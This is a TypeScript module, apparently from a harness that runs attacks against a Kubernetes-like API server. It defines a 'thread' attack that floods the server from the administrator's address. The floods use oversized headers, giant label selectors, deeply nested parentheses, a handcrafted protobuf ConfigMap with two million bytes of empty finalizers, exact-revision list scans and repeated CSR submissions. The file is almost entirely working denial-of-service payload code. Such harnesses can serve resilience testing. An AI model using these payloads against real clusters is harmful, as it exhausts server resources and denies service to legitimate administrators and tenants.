import {ANONYMOUS, HONEST, type Attack, type Field, type Identity, type Shot} from '../attack.ts'
import {CSRS, inTurn, requestFor} from './bodies.ts'

const PROTOBUF = 'application/vnd.kubernetes.protobuf'
const values = Array.from({length: 3000}, (_, number) => number.toString(36)).join(',')
const near = (identity: Identity): Identity => ({
  ...identity,
  name: `${identity.name}, near`,
  address: HONEST,
})

/** A ConfigMap in protobuf with a million empty finalizers. */
const manyFields = Buffer.concat([
  Buffer.from('6b3873000a0f0a0276311209436f6e6669674d6170', 'hex'),
  Buffer.from('1284897a0a80897a', 'hex'),
  Buffer.alloc(2_000_000, Buffer.from('7200', 'hex')),
])

/** Requests that each cost the server's one thread much more than their sender, from behind the same address as somebody honest. */
export const thread: Attack = {
  name: 'thread',
  aim: 'headers, selectors, bodies and old revisions that cost time, from the address of the administrator',
  async run(field) {
    const {bootstrap, tenant, namespace} = field.holdings
    const configMaps = `/api/v1/namespaces/${namespace}/configmaps`
    const shots: [Identity, Shot][] = [
      [ANONYMOUS, {path: '/version', headers: {accept: ','.repeat(15_000)}}],
      [ANONYMOUS, {path: '/version', headers: {authorization: `Bearer ${' '.repeat(15_000)}x`}}],
      [tenant, {path: `${configMaps}?labelSelector=${encodeURIComponent(`k in (${values})`)}`}],
      [bootstrap, {path: `${CSRS}?labelSelector=${'('.repeat(15_000)}`}],
      [tenant, {method: 'POST', path: configMaps, body: manyFields, type: PROTOBUF}],
    ]
    await Promise.all([
      field.flood({perSecond: 100, atOnce: 8}, (number) => {
        const [identity, shot] = inTurn(shots, number)
        return field.shoot(near(identity), shot)
      }),
      field.flood({perSecond: 600, atOnce: 16}, () =>
        field.shoot(near(ANONYMOUS), {path: '/api/v1/secrets'}),
      ),
      searchOldRevisions(field, near(bootstrap)),
      askForOneName(field, near(bootstrap)),
    ])
  },
}

/** Of a token, which may list the requests of all others. */
async function searchOldRevisions({shoot, flood}: Field, identity: Identity): Promise<void> {
  let revision = ''
  await flood({perSecond: 40, atOnce: 4}, async (number) => {
    if (number % 1000 === 0) {
      const {text} = await shoot(identity, {path: `${CSRS}?limit=1`})
      revision = /"resourceVersion":"(\d+)"/.exec(text)?.[1] ?? revision
    }
    const exact = `resourceVersion=${revision}&resourceVersionMatch=Exact`
    await shoot(identity, {path: `${CSRS}?${exact}&fieldSelector=spec.signerName=none`})
  })
}

async function askForOneName({holdings, shoot, flood}: Field, identity: Identity): Promise<void> {
  await flood({perSecond: 20, atOnce: 4}, async () => {
    const body = JSON.stringify(await requestFor(holdings.victims[0] ?? 'victim'))
    await shoot(identity, {method: 'POST', path: CSRS, body})
  })
}
